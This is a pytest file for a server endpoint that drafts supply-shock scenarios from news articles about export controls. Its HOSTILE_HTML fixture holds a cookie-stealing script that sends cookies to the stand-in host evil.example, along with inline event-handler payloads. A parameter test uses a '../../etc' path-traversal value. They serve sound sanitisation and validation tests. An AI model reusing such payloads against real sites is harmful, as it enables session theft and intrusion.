"""``POST /api/draft`` and the ``/draft`` page: a news article in, the draft and its scenario out; bad input refused, nothing written."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from supplyshock.server import ServerConfig, create_app
from supplyshock.server.models import MAX_ARTICLE_CHARS

ROOT = Path(__file__).resolve().parents[2]
SEED = ROOT.parent / "shared" / "seeds" / "london-talks-2025-06.txt"

GRAPHITE = (
    "China to require export permits for some graphite products from Dec. 1\n\n"
    "BEIJING, Oct. 20 - China will require export permits for some graphite products from Dec. 1 to protect national security, "
    "the Commerce Ministry said on Friday, the latest step to control supplies of critical raw materials.\n\n"
    "Graphite is used in the batteries of electric vehicles, and China is the world's biggest producer, accounting for 67% of "
    "global supply, according to the U.S. Geological Survey.\n\n"
    "Under the new rules, buyers of three types of graphite items that the ministry regards as highly sensitive will have to apply for permits.\n"
)

#: An HTML page whose scripts, navigation and inline handlers must never reach the draft.
HOSTILE_HTML = (
    "<!DOCTYPE html><html><head><title>Gallium curbs</title>"
    "<script>document.location='https://evil.example/?c='+document.cookie; // China bans exports of all rare earths to Japan</script>"
    "</head><body><nav>Markets Prices Subscribe</nav>"
    "<article><h1>China to require licences for gallium and germanium exports from Aug. 1</h1>"
    "<p>BEIJING, July 4 - China will require exporters of gallium, germanium and several of their compounds to obtain licences "
    "starting Aug. 1, the Ministry of Commerce said on Monday.<script>alert('x')</script></p>"
    '<p onclick="alert(1)">The government said the measures were needed to safeguard national security and national interests.'
    '<img src="x" onerror="alert(2)"></p></article>'
    "<footer>Cookies <script>steal()</script></footer></body></html>"
)


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")} if root.exists() else set()


@pytest.fixture
def unchanged(data_dir: Path) -> Callable[[], None]:
    """Call at the end of a test: the data directory holds what it held before the requests."""
    before = _files(data_dir)

    def check() -> None:
        assert _files(data_dir) == before, sorted(str(p) for p in _files(data_dir) - before)

    return check


def test_draft_gives_events_with_their_sentences_and_a_valid_scenario(client: TestClient, unchanged: Callable[[], None]) -> None:
    answer = client.post("/api/draft", json={"text": GRAPHITE, "date": "2023-10-20"})
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["published"] == "2023-10-20" and body["backend"] == "rules"
    [ev] = body["events"]
    assert (ev["type"], ev["actor"], ev["destinations"], ev["materials"]) == ("licence", "CHN", "all", ["graphite"])
    assert ev["date"] == {"value": "2023-12-01", "text": "Dec. 1"} and ev["announced"]["value"] == "2023-10-20"
    # every field names its sentence, and the sentence text comes with it
    assert set(ev["sources"]) == set(ev["evidence"]) >= {"type", "actor", "materials", "date"}
    for field, index in ev["evidence"].items():
        assert ev["sources"][field] == body["sentences"][index]["text"]
    assert "export permits" in ev["sources"]["type"] and "said on Friday" in ev["sources"]["announced"]
    assert 0 < ev["confidence"] <= 1 and ev["status"] == "written" and ev["scenario_id"] == "chn-licence-1"
    assert any(t.startswith("approval:") for t in ev["todos"])
    assert body["sentences"][0]["title"] and body["sentences"][1]["text"].startswith("China will require")  # the dateline is removed
    assert [o["change_pct"] if o["value"] is None else o["value"] for o in body["observations"]] == [67.0]
    assert body["scenario"]["dataset"] == "graphite" and "type: licence" in body["scenario"]["yaml"]
    checked = client.post("/api/validate", json={"yaml": body["scenario"]["yaml"]}).json()
    assert checked["valid"] is True and checked["events"] == 1 and checked["start"] == "2023-12-01"
    unchanged()


def test_the_drafted_scenario_runs(client: TestClient, wait: Any) -> None:
    body = client.post("/api/draft", json={"text": GRAPHITE, "date": "2023-10-20"}).json()
    yaml_text = body["scenario"]["yaml"].replace("destinations: all\n", "destinations: all\n    approval: 0.5\n", 1)
    job = client.post("/api/runs", json={"yaml": yaml_text, "members": 1})
    assert job.status_code == 202, job.text
    info = wait(client, job.json()["job_id"])
    assert info["status"] == "done", info
    summary = client.get(f"/api/runs/{info['run_id']}/summary", params={"series": False}).json()
    assert summary["dataset"] == "graphite" and summary["scenario"] == body["scenario"]["name"]


def test_hostile_html_is_read_as_text_only(client: TestClient, unchanged: Callable[[], None]) -> None:
    answer = client.post("/api/draft", json={"text": HOSTILE_HTML, "date": "2023-07-04"})
    assert answer.status_code == 200, answer.text
    body = answer.json()
    text = " ".join(s["text"] for s in body["sentences"])
    for bad in ("<script", "alert", "evil.example", "cookie", "onerror", "onclick", "steal", "Subscribe", "Japan"):
        assert bad.lower() not in text.lower(), bad
    assert [(e["type"], e["materials"]) for e in body["events"]] == [("licence", ["gallium", "germanium"])]
    assert "<script" not in body["scenario"]["yaml"] and "alert" not in body["scenario"]["yaml"]
    unchanged()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "the article is empty"),
        ("   \n\n\t  ", "the article is empty"),
        ("<html><head><script>var ban = 'China bans exports';</script></head><body><nav>Home</nav></body></html>", "holds no article text"),
        (
            "北京，10月20日——中国商务部周五表示，为维护国家安全，中国将从12月1日起对部分石墨产品实施出口许可管理。这是中国控制关键原材料供应的最新举措。",
            "does not look like English",
        ),
        (
            "Pékin, 20 octobre - La Chine exigera des licences d'exportation pour certains produits en graphite à partir du 1er décembre, "
            "a annoncé vendredi le ministère du Commerce, afin de protéger la sécurité nationale.",
            "does not look like English",
        ),
        (
            "Prices of antimony in Rotterdam rose on Monday as buyers in Europe looked for material, traders said, "
            "while stocks held by consumers fell to the lowest level this year.",
            "no policy event",
        ),
    ],
    ids=["empty", "blank", "html-scripts-only", "chinese", "french", "no-event"],
)
def test_bad_articles_are_refused_with_a_message(client: TestClient, unchanged: Callable[[], None], text: str, message: str) -> None:
    answer = client.post("/api/draft", json={"text": text, "date": "2024-06-03"})
    assert answer.status_code == 422, answer.text
    detail = answer.json()["detail"]
    assert message in detail and "Traceback" not in detail
    assert "nothing was" in detail
    unchanged()


def test_a_50_mb_article_is_refused_before_it_is_read(data_dir: Path) -> None:
    app = create_app(ServerConfig(data_dir=data_dir))
    with TestClient(app) as c:
        before = _files(data_dir)
        big = b'{"text": "' + b"China bans exports. " * (50 * 1024 * 1024 // 20) + b'", "date": "2024-06-03"}'
        answer = c.post("/api/draft", content=big, headers={"content-type": "application/json"})
        assert answer.status_code == 413 and "larger than the limit" in answer.json()["detail"]

        def chunks() -> Any:
            for _ in range(200):
                yield b"x" * (256 * 1024)

        streamed = c.post("/api/draft", content=chunks(), headers={"content-type": "application/json"})
        assert streamed.status_code == 413
        assert _files(data_dir) == before


def test_text_over_the_article_limit_is_refused_by_the_model(client: TestClient) -> None:
    answer = client.post("/api/draft", json={"text": "a" * (MAX_ARTICLE_CHARS + 1), "date": "2024-06-03"})
    assert answer.status_code == 422 and f"at most {MAX_ARTICLE_CHARS} characters" in answer.json()["detail"]
    assert answer.json()["problems"][0]["path"] == "body.text"


@pytest.mark.parametrize(
    ("body", "path_or_text"),
    [
        ({"text": GRAPHITE}, "body.date"),
        ({"text": GRAPHITE, "date": "20 Oct 2023"}, "body.date"),
        ({"text": GRAPHITE, "date": "1850-01-01"}, "body.date"),
        ({"text": GRAPHITE, "date": "2023-10-20", "dataset": "../../etc"}, "body.dataset"),
        ({"text": GRAPHITE, "date": "2023-10-20", "dataset": "nope"}, "not one of this server's datasets"),
        ({"text": GRAPHITE, "date": "2023-10-20", "llm": True}, "body.llm"),
        ({"article": GRAPHITE, "date": "2023-10-20"}, "body.text"),
    ],
    ids=["no-date", "date-format", "date-range", "dataset-path", "dataset-unknown", "unknown-key", "wrong-key"],
)
def test_bad_fields_are_named(client: TestClient, unchanged: Callable[[], None], body: dict[str, Any], path_or_text: str) -> None:
    answer = client.post("/api/draft", json=body)
    assert answer.status_code == 422, answer.text
    assert path_or_text in answer.json()["detail"]
    unchanged()


def test_event_outside_every_dataset_gives_the_draft_without_a_scenario(client: TestClient) -> None:
    text = "Indonesia to ban nickel ore exports\n\nJAKARTA, Sept. 2 - Indonesia will stop exports of nickel ore from Jan. 1, an official said."
    body = client.post("/api/draft", json={"text": text, "date": "2019-09-02"}).json()
    assert [(e["type"], e["actor"], e["status"]) for e in body["events"]] == [("export_ban", "IDN", None)]
    assert body["scenario"] is None and "no policy event" in body["message"]


def test_a_chosen_dataset_is_used(client: TestClient) -> None:
    body = client.post("/api/draft", json={"text": GRAPHITE, "date": "2023-10-20", "dataset": "graphite"}).json()
    assert body["scenario"]["dataset"] == "graphite"
    other = client.post("/api/draft", json={"text": GRAPHITE, "date": "2023-10-20", "dataset": "tungsten"}).json()
    assert other["scenario"] is None and "tungsten" in other["message"]


def test_openapi_documents_the_route(client: TestClient) -> None:
    schema = client.get("/openapi.json").json()
    post = schema["paths"]["/api/draft"]["post"]
    assert {"413", "422"} <= set(post["responses"])
    assert "/draft" not in schema["paths"]


def test_page_and_script_are_served_and_load_nothing_from_elsewhere(client: TestClient) -> None:
    page = client.get("/draft")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert '<script src="/draft/draft.js"></script>' in page.text and 'id="article"' in page.text
    script = client.get("/draft/draft.js")
    assert script.status_code == 200 and "javascript" in script.headers["content-type"]
    for text in (page.text, script.text):
        assert not re.search(r"(src|href)=[\"']?(https?:)?//", text), "the page must work offline"
        assert "innerHTML" not in text
    assert "/api/draft" in script.text and "/api/validate" in script.text and "/api/runs" in script.text
    assert client.get("/draft/other.js").status_code == 404
    assert 'href="/draft"' in client.get("/").text  # the dashboard links to the page


def test_seed_report_through_the_api(client: TestClient) -> None:
    if not SEED.exists():
        pytest.skip(f"seed report {SEED} not found (../shared/seeds is not beside this checkout)")
    body = client.post("/api/draft", json={"text": SEED.read_text(encoding="utf-8"), "date": "2025-06-09"}).json()
    kinds = {(e["type"], e["actor"] or ",".join(e["parties"])) for e in body["events"]}
    assert {("licence", "CHN"), ("agreement", "CHN,USA")} <= kinds
    april = [e for e in body["events"] if e["actor"] == "CHN" and e["date"] and e["date"]["value"].startswith("2025-04")]
    assert april and "suspend" in april[0]["sources"]["type"]
    assert any(o["change_pct"] == -34.5 and o["period"] == "2025-05" for o in body["observations"])
    assert client.post("/api/validate", json={"yaml": body["scenario"]["yaml"]}).json()["valid"] is True
